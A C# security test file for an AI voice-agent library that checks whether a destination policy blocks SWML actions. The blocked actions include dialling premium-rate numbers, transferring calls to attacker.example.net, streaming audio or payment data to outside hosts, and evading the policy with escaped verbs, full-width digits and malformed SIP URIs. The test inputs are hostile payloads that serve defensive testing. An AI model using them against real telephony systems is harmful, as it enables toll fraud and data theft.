using System.Text.Json.Nodes;
using SignalWire.Agents.Auditing;
using SignalWire.Agents.Destinations;

namespace SignalWire.Agents.AspNetCore.Tests.Security;

/// <summary>
/// Every SWML slot that can hold a URL or inline SWML, over real HTTP: a handler that returns whatever action the
/// test names, written as a developer might, against a policy with a transfer-host and a data-host allow-list.
/// </summary>
public sealed class DestinationSlotTests : IAsyncLifetime
{
    private const string Premium = "+19002345678";

    private AgentTestServer _server = null!;
    private HttpClient _client = null!;

    public async ValueTask InitializeAsync()
    {
        var options = AgentTestServer.Options("slots");
        options.Destinations = new DestinationPolicy
        {
            AllowedTransferHosts = ["swml.example.com"],
            AllowedDataHosts = ["media.example.com"],
            MaxTransfersPerCall = 3,
        };
        var agent = new AgentBase(options);
        // The action arrives as JSON text and goes back as it is: what a handler building SWML from data would return.
        agent.DefineTool("act", "Run an action", new JsonObject { ["action"] = new JsonObject { ["type"] = "string" } },
            (args, _, _) => ValueTask.FromResult(new FunctionResult("Done.").AddAction((JsonObject)JsonNode.Parse(args["action"]!.GetValue<string>())!)));
        agent.DefineTool("swml_text", "Run SWML text", new JsonObject { ["swml"] = new JsonObject { ["type"] = "string" } },
            (args, _, _) => ValueTask.FromResult(new FunctionResult("Done.").AddAction("SWML", args["swml"]!.GetValue<string>())));
        agent.DefineTool("raw", "Run raw SWML text", new JsonObject { ["swml"] = new JsonObject { ["type"] = "string" } },
            (args, _, _) => ValueTask.FromResult(new FunctionResult("Done.").ExecuteSwml(args["swml"]!.GetValue<string>())));
        agent.DefineTool("rpc_dial", "Dial through RPC", new JsonObject { ["dest"] = new JsonObject { ["type"] = "string" } },
            (args, _, _) => ValueTask.FromResult(new FunctionResult("Done.").RpcDial("+14155550100", "+14155550199", args["dest"]!.GetValue<string>())));
        _server = await AgentTestServer.StartAsync(agent);
        _client = _server.CreateClient();
    }

    public async ValueTask DisposeAsync()
    {
        _client.Dispose();
        await _server.DisposeAsync();
    }

    private async Task<JsonObject> CallAsync(string function, string key, string value, string callId = "call-1")
    {
        using var response = await _client.PostJsonAsync("/swaig", SwaigRequests.Call(function, new JsonObject { [key] = value }, callId: callId));
        Assert.Equal(System.Net.HttpStatusCode.OK, response.StatusCode);
        return await response.ReadJsonAsync();
    }

    /// <summary>An SWML action whose main section runs <paramref name="verbJson"/>; <c>PREMIUM</c> stands for a premium-rate number.</summary>
    private static string InMain(string verbJson) => """{"SWML":{"version":"1.0.0","sections":{"main":[VERB]}}}""".Replace("VERB", verbJson, StringComparison.Ordinal).Replace("PREMIUM", Premium, StringComparison.Ordinal);

    /// <summary>A whole SWML document running <paramref name="verbJson"/>, as a JSON string literal (inline SWML).</summary>
    private static string Inline(string verbJson) => JsonValue.Create(Document(verbJson))!.ToJsonString();

    private static string Document(string verbJson) => """{"version":"1.0.0","sections":{"main":[VERB]}}""".Replace("VERB", verbJson, StringComparison.Ordinal).Replace("PREMIUM", Premium, StringComparison.Ordinal);

    private static string Dest(string verb, string field, string inlineVerb) => InMain("{\"" + verb + "\":{" + field + ":" + Inline(inlineVerb) + "}}");

    private string LastBlocked() =>
        _server.Logs.GetSnapshot().Last(r => r.Category == AuditEvents.Category && r.Id.Id == 2025).Message;

    public static TheoryData<string, string> BlockedSlots => new()
    {
        // execute.dest as inline SWML, as an outside URL and as a scheme-relative URL
        { Dest("execute", "\"dest\"", """{"connect":{"to":"PREMIUM"}}"""), "premium_rate" },
        { InMain("""{"execute":{"dest":"https://attacker.example.net/dial.json"}}"""), "transfer_host_not_allowed" },
        { InMain("""{"execute":{"dest":"//attacker.example.net/dial.json"}}"""), "transfer_host_not_allowed" },
        { InMain("""{"transfer":{"dest":"//attacker.example.net/next"}}"""), "transfer_host_not_allowed" },
        // transfer.dest as inline SWML
        { Dest("transfer", "\"dest\"", """{"connect":{"to":"PREMIUM"}}"""), "premium_rate" },
        // connect.transfer_after_bridge and enter_queue.transfer_after_bridge with inline SWML, connect.confirm with an outside URL
        { Dest("connect", "\"to\":\"+14155550100\",\"transfer_after_bridge\"", """{"connect":{"to":"PREMIUM"}}"""), "premium_rate" },
        { InMain("""{"connect":{"serial":[{"to":"+14155550100","transfer_after_bridge":"https://attacker.example.net/after"}]}}"""), "transfer_host_not_allowed" },
        { Dest("enter_queue", "\"queue_name\":\"sales\",\"transfer_after_bridge\"", """{"send_sms":{"to_number":"PREMIUM","from_number":"+14155550199","body":"x"}}"""), "premium_rate" },
        { InMain("""{"connect":{"to":"+14155550100","confirm":"https://attacker.example.net/confirm"}}"""), "transfer_host_not_allowed" },
        // A personal number (UK 070) and a premium number nested in a cond branch and a switch case
        { InMain("""{"connect":{"to":"+447012345678"}}"""), "personal_number" },
        { InMain("""{"cond":[{"when":"true","then":[{"connect":{"serial":[{"to":"+14155550100"},{"to":"PREMIUM"}]}}]}]}"""), "premium_rate" },
        { InMain("""{"switch":{"variable":"x","case":{"a":[{"send_sms":{"to_number":"PREMIUM","from_number":"+14155550199","body":"x"}}]}}}"""), "premium_rate" },
        // SIP user parts with dial codes, separators, NUL, full-width digits or a second @
        { InMain("""{"connect":{"to":"sip:*67+19002345678@trunk.example.com"}}"""), "not_e164" },
        { InMain("""{"connect":{"to":"sip:#31#+19002345678@trunk.example.com"}}"""), "not_e164" },
        { InMain("""{"connect":{"to":"sip:+1/900/234/5678@trunk.example.com"}}"""), "not_e164" },
        { InMain("""{"connect":{"to":"sip:%2B19002345678%00@trunk.example.com"}}"""), "malformed_sip_uri" },
        { InMain("""{"connect":{"to":"sip:\uFF0B\uFF11\uFF19\uFF10\uFF10\uFF12\uFF13\uFF14\uFF15\uFF16\uFF17\uFF18@trunk.example.com"}}"""), "premium_rate" },
        { InMain("""{"connect":{"to":"sip:+19002345678@evil.example.net@trunk.example.com"}}"""), "malformed_sip_uri" },
        // A raw_swml whose verb is escaped, and YAML whose verb is escaped: unreadable while a policy is active
        { """{"SWML":{"raw_swml":"{\"sections\":{\"main\":[{\"\\u0063onnect\":{\"to\":\"+19002345678\"}}]}}"}}""", "premium_rate" },
        { """{"SWML":{"raw_swml":"sections:\n  main:\n    - \"\\x63onnect\": {to: \"+19002345678\"}"}}""", "unreadable_swml" },
        // Data sinks: tap and pay connectors outside the data-host list
        { InMain("""{"tap":{"uri":"wss://collector.example.net/audio"}}"""), "data_host_not_allowed" },
        { InMain("""{"pay":{"payment_connector_url":"https://cards.example.net/charge"}}"""), "data_host_not_allowed" },
    };

    [Theory]
    [MemberData(nameof(BlockedSlots))]
    public async Task Every_slot_that_can_dial_or_send_data_is_checked_and_the_action_removed(string action, string reason)
    {
        var answer = await CallAsync("act", "action", action);

        Assert.Null(answer["action"]);
        Assert.Contains("Not done:", answer["response"]!.GetValue<string>(), StringComparison.Ordinal);
        Assert.Contains($" reason={reason}", LastBlocked(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Swml_given_as_a_json_string_in_an_action_is_parsed_and_walked()
    {
        var answer = await CallAsync("swml_text", "swml", Document("""{"connect":{"to":"PREMIUM"}}"""));

        Assert.Equal("Done. Not done: the transfer to +19002345678, because that destination is not allowed (premium rate). Tell the caller it cannot be done and offer other help.",
            answer["response"]!.GetValue<string>());
        Assert.Null(answer["action"]);
        Assert.Contains("action=connect destination=+19002345678 reason=premium_rate", LastBlocked(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_rpc_dial_whose_dest_swml_dials_a_premium_number_is_removed()
    {
        var answer = await CallAsync("rpc_dial", "dest", Document("""{"connect":{"to":"PREMIUM"}}"""));

        Assert.Null(answer["action"]);
        Assert.Contains("action=connect destination=+19002345678 reason=premium_rate", LastBlocked(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Escaped_verbs_in_swml_text_are_read_as_the_verbs_they_are()
    {
        var answer = await CallAsync("raw", "swml", """{"sections":{"main":[{"\u0063onnect":{"to":"+19002345678"}}]}}""");

        Assert.Null(answer["action"]);
        Assert.Contains("reason=premium_rate", LastBlocked(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Allowed_slots_pass_unchanged()
    {
        var allowed = InMain("""{"execute":{"dest":"https://swml.example.com/next","on_return":[{"tap":{"uri":"wss://media.example.com/a"}}]}}""");

        var answer = await CallAsync("act", "action", allowed);

        Assert.Equal(JsonNode.Parse(allowed)!.ToJsonString(), answer["action"]![0]!.ToJsonString());
        Assert.Equal("Done.", answer["response"]!.GetValue<string>());
    }

    [Fact]
    public async Task Execute_counts_against_the_transfer_cap()
    {
        var execute = InMain("""{"execute":{"dest":"sales"}}""");
        for (var i = 0; i < 3; i++)
        {
            Assert.NotNull((await CallAsync("act", "action", execute, callId: "cap-call"))["action"]);
        }

        var fourth = await CallAsync("act", "action", execute, callId: "cap-call");

        Assert.Null(fourth["action"]);
        Assert.Contains("action=execute destination=sales reason=transfer_cap", LastBlocked(), StringComparison.Ordinal);
    }
}
